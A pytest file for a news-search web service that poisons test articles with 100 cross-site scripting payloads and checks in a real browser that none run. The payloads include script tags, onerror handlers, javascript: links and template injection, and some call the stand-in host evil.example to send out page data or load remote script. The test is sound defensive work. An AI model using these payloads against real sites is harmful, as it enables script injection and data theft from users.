"""A hundred ways to write a script into an article, in a real browser: nothing runs, and nothing is asked for elsewhere."""

import json
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import replace
from typing import Any

import httpx2
import pytest
from fastapi import FastAPI

from api.app import create_app
from api.settings import ServiceSettings
from index.ingest import Fallbacks
from index.protocols import Embedder
from index.sources.files import read_file
from index.types import Article
from index.wiring import build_ingest, build_store
from rag.wiring import build_pipeline

RUN = ("alert(1)", "window.hit=1", "fetch('//evil.example/'+document.title)", "import('//evil.example/x.js')", "top.hit=1")
FORMS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<a href='javascript:{}'>x</a>", "[x](javascript:{})",
    "![x](x' onerror='{})", "<details open ontoggle={}>", "<math><mtext><style><img title='</style><img src onerror={}>'>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>", "'\"><img src onerror={}>",
    "<video><source onerror={}></video>", "&lt;script&gt;{}&lt;/script&gt;", "<object data='javascript:{}'>",
    "<form><button formaction='javascript:{}'>x</button></form>", "{{{{constructor.constructor('{}')()}}}}",
)  # fmt: skip
PAYLOADS = [form.format(run) for form in FORMS for run in RUN]
PER_ARTICLE = 10


@pytest.fixture(scope="module")
def poisoned(
    embedder: Embedder, tmp_path_factory: pytest.TempPathFactory,
    serving: Callable[[FastAPI], AbstractContextManager[httpx2.Client]], ready: Callable[[httpx2.Client], None],
) -> Iterator[httpx2.Client]:  # fmt: skip
    """A service over ten articles that hold ten of the attacks each, in every field, past what cleaning would take out."""
    folder = tmp_path_factory.mktemp("poisoned")
    records = folder / "news.jsonl"
    groups = [PAYLOADS[at : at + PER_ARTICLE] for at in range(0, len(PAYLOADS), PER_ARTICLE)]
    plain = [
        {"title": f"Weir {n}", "text": f"The weir {n} of Tved holds. " + "\n\n".join(group)} for n, group in enumerate(groups)
    ]
    records.write_text("".join(json.dumps(record) + "\n" for record in plain), encoding="utf-8")

    def filled(article: Article) -> Article:
        own = groups[int(article.title.removeprefix("Weir "))]
        words = " ".join(own)
        return replace(
            article, title=words, publisher=own[0], authors=tuple(own), section=own[1], url=f"javascript:{RUN[1]}",
            text=f"{article.text} {words}",
        )  # fmt: skip

    settings = ServiceSettings(data=folder / "data")
    store = build_store(settings)
    items = (filled(item) for item in read_file(records, embedder.embed_passages) if isinstance(item, Article))
    assert build_ingest(settings, store, embedder).run(items, Fallbacks()).counts["failed"] == 0
    store.close()
    with serving(create_app(settings, lambda: build_pipeline(settings, embedder=embedder))) as client:
        ready(client)
        yield client


def test_no_attack_runs_in_the_page(browser: Any, poisoned: httpx2.Client) -> None:
    """In the list of articles, in each of them, in an answer and in the filters."""
    assert len(PAYLOADS) == 100
    address = str(poisoned.base_url).rstrip("/")
    dialogs: list[str] = []
    elsewhere: list[str] = []
    complaints: list[str] = []
    page = browser.new_page(reduced_motion="reduce")
    page.set_content(FORMS[1].format(RUN[1]))
    page.wait_for_function("window.hit === 1")  # where nothing is done against it, it runs
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda sent: sent.url.startswith(address) or elsewhere.append(sent.url))
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    shown = 0
    for article in poisoned.get("/v1/articles").json()["articles"]:
        page.goto(f"{address}/?article={article['article_id']}")
        page.locator("#reader h2").wait_for()
        assert page.locator("#reader h2").text_content() == article["title"]
        assert (
            page.locator("#reader script, #reader img, #reader svg, #reader iframe, #reader [onload], #reader [onerror]").count()
            == 0
        )
        assert page.locator("a[href^='javascript']").count() == 0
        shown += 1
    page.goto(f"{address}/?q=Does+the+weir+3+of+Tved+hold%3F")
    page.locator(".answer[data-state=whole]").wait_for(state="attached")
    page.click("nav >> text=Articles")
    page.locator("#article-list li").first.wait_for()
    assert page.evaluate("window.hit") is None
    assert (shown, dialogs, elsewhere, complaints) == (len(PAYLOADS) // PER_ARTICLE, [], [], [])
    page.close()
